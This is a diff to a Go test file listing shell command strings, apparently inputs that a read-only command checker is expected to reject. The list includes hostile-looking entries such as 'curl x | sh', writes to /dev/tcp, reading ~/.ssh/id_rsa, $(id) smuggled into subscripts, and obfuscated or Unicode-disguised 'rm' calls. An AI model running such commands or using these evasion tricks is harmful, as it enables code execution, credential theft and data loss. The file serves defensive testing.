@@ -35,7 +35,7 @@ func TestReads(t *testing.T) {
 		"test -v 'a[$(id)]'", "[ -R 'a[$(id)]' ]", "[[ -v 'a[$(id)]' ]]", "[[ 1 -eq 'a[$(id)]' ]]", "printf -v 'a[$(id)]' x", "declare x=1", "export PATH=.", "let x=1", "((x++))",
 		"sudo ls", "doas ls", "env X=1 ls", "env -S 'ls -l'", "env -C /etc ls", "nohup ls", "setsid ls", "exec ls", "xargs rm", "ls | xargs rm", "ls | xargs sh -c 'id'", "parallel ls", "watch ls", "ssh host ls",
 		"sh x.sh", "sh -c \"$x\"", "bash -lc ls", "bash --rcfile x -c ls", "sh", "curl x | sh", "zsh -c ls", "source x", ". x", "eval \"$x\"", "eval rm a", "trap 'rm a' EXIT", "alias ls=rm",
-		"f() { rm a; }; f", "ls() { rm a; }; ls", "ls() { cat a; }; ls", "coproc ls", "while true; do ls; done", "case x in x) ls;; esac", "select x in a; do ls; done",
+		"f() { rm a; }; f", "ls() { rm a; }; ls", "ls() { cat a; }; ls", "coproc ls", "while true; do ls; done", "case $x in x) ls;; esac", "select x in a; do ls; done",
 		"tee x", "sed -i s/a/b/ x", "sed 'w x' y", "sed s/a/b/e x", "awk 'BEGIN{system(\"id\")}'", "tar --to-command=sh -xf x", "python -c 1", "perl -e 1", "xxd a b", "dd if=a of=b",
 		"echo x > /dev/tcp/1.2.3.4/80", "cat < /dev/tcp/1.2.3.4/80", "ping x", "dig x", "curl x", "l\\s; r\\m x", "'rm' x", "r''m x", "$'\\x72m' x", "\"$(echo rm)\" x", "l?", "ls {a,b}", "cat ~/.ssh/id_rsa",
 		"ls \x00", "ls \x1b[2K", "ls \u202e", "ls \u2028rm", "ls \r rm", "'", "ls (", "cd", "cd a b", "timeout 5", "command", "ls {fd}>x", "ls 3>x", "cat <<E | sh\nrm a\nE", "bash <<E\n$x\nE",
